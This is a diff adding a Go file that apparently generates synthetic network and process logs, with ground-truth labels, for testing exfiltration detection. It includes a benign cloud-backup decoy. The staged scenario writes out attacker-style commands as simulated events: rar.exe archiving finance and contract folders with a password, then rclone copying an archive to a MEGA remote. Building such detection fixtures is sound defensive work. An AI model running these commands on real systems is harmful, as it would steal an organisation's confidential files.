@@ -1,0 +1,66 @@
+package simulate
+
+import "netcase"
+
+func uploadStories() []storyline {
+	return []storyline{
+		{name: "upload-night", doc: "a file server sends gigabytes to a rare address at night", hypothesis: Exfiltration, days: 8, formats: sizedFormats, tell: uploadNight},
+		{name: "upload-drip", doc: "a desk sends a hundred megabytes an hour to a rare address for a day", hypothesis: Exfiltration, days: 8, formats: sizedFormats, tell: uploadDrip},
+		{name: "upload-staged", doc: "files are packed with a password and then sent out, the packing is on record", hypothesis: Exfiltration, days: 8, formats: sizedFormats, processes: true, tell: uploadStaged},
+		{name: "backup-cloud", doc: "every night a machine sends its copy to the same address, and this night as well", hypothesis: Misconfigured, days: 8, formats: sizedFormats, tell: backupCloud},
+	}
+}
+
+// sizedFormats record sizes.
+var sizedFormats = []string{formatZeek, formatEVE, formatTraffic60}
+
+func (l *lab) send(at netcase.Time, m *machine, to int, n int64) conn {
+	c := conn{at: at, length: netcase.Time(l.between(60, 1500)) * netcase.Second, src: m.addr, dport: 443, result: answered, out: octets(n), in: octets(n / 60)}
+	if to >= 0 {
+		c.dst = l.sites[to]
+	}
+	return c
+}
+
+func (l *lab) upload(m *machine, hours []int, each int64) {
+	to := l.stranger()
+	first := len(l.conns)
+	for _, h := range hours {
+		for range 3 {
+			c := l.send(l.millis(l.at(h, 0), 40*netcase.Minute), m, -1, each/3)
+			c.dst = to
+			l.add(c)
+		}
+	}
+	l.label(l.happened(ActUpload, first, true))
+	l.labels.Claims, l.labels.Severity = []string{"exfiltration"}, [2]string{sevInfo, sevHigh}
+}
+
+func uploadNight(l *lab) { l.upload(l.files, []int{2, 3}, 4_000_000_000) }
+
+func uploadDrip(l *lab) {
+	var hours []int
+	for h := range 20 {
+		hours = append(hours, h+2)
+	}
+	l.upload(l.clients[3], hours, 100_000_000)
+}
+
+func uploadStaged(l *lab) {
+	at := l.at(1, 5)
+	for _, line := range []string{`rar.exe a -hpSecret -m5 C:\ProgramData\a.rar D:\Finance\*`, `rar.exe a -hpSecret -m5 C:\ProgramData\b.rar D:\Contracts\*`} {
+		l.does(&at, l.files, "administrator", act{kind: actStarted, image: `C:\ProgramData\rar.exe`, line: line, parent: shellPath})
+	}
+	l.does(&at, l.files, "administrator", act{kind: actStarted, image: `C:\ProgramData\rclone.exe`, line: `rclone.exe copy C:\ProgramData\a.rar mega:x --transfers 8`, parent: shellPath})
+	l.upload(l.files, []int{2, 3}, 5_000_000_000)
+	l.labels.Proven, l.labels.Severity = []string{"exfiltration"}, [2]string{sevHigh, sevCritical}
+}
+
+func backupCloud(l *lab) {
+	for d := range l.days {
+		for range 4 {
+			l.add(l.send(l.millis(l.start+netcase.Time(d)*netcase.Day+netcase.Hour, netcase.Hour), l.files, 3, int64(l.between(450_000_000, 550_000_000))))
+		}
+	}
+	l.labels.Severity = [2]string{sevInfo, sevLow}
+}
